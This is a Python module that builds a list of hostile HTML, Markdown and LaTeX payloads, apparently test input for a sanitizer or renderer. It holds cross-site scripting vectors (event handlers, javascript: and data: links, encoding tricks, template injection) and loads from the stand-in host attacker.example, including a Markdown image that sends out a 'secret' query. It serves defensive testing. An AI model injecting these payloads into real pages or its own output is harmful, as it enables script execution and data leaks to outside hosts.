"""Hostile text: HTML, Markdown and addresses that would run or load something where a page let them."""

from __future__ import annotations

RUN = "window.pwned=1;document.title='pwned'"
HOST = "attacker.example"
TAGS = (
    "img svg iframe script object embed video audio source link meta base form input button style math details "
    "template marquee body frameset noscript textarea select isindex"
).split()
FORMS = (
    '<{tag} src="https://{host}/{tag}1" href="https://{host}/{tag}2" onerror="{run}" onload="{run}">',
    "<{upper}/SRC=//{host}/{tag}3/OnError={run}/AutoFocus/OnFocus={run}>",
    '<{tag} style="background:url(https://{host}/{tag}4)" data="https://{host}/{tag}5" action="https://{host}/{tag}6">',
    '"><{tag} srcset="https://{host}/{tag}7 1x" poster="https://{host}/{tag}8" ontoggle={run} open>{run}</{tag}>',
)
OTHERS = (
    "![secret](https://{host}/image?q=secret)",
    "![a][ref]\n\n[ref]: https://{host}/reference 'title'",
    "[press](javascript:{run})",
    "[press](JaVaScRiPt:{run})",
    "[press](&#106;avascript:{run})",
    "[press](data:text/html,<script>{run}</script>)",
    "[press](vbscript:{run})",
    "[press](//{host}/scheme-relative)",
    "[press](\\\\{host}/backslashes)",
    "<javascript:{run}>",
    '[x](https://example.org "onmouseover={run}")',
    '[a](https://example.org/"onmouseover="{run})',
    "<style>@import url(https://{host}/style);</style>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "`<img src=x onerror={run}>`",
    "```html\n<script>{run}</script>\n```",
    "<a href='https://{host}' ping='https://{host}/ping'>x</a>",
    "| a |\n|---|\n| <img src=https://{host}/cell onerror={run}> |",
    "# <img src=https://{host}/heading onerror={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "$$\\href{{javascript:{run}}}{{x}}\\url{{https://{host}/tex}}\\includegraphics{{https://{host}/tex.png}}$$",
    "$\\htmlClass{{x}}{{y}}\\def\\a{{\\a\\a}}\\a$",
)


def make_payloads() -> list[str]:
    """Return all payloads, each once."""
    made = [form.format(tag=tag, upper=tag.upper(), host=HOST, run=RUN) for tag in TAGS for form in FORMS]
    return [*made, *(other.format(host=HOST, run=RUN) for other in OTHERS)]
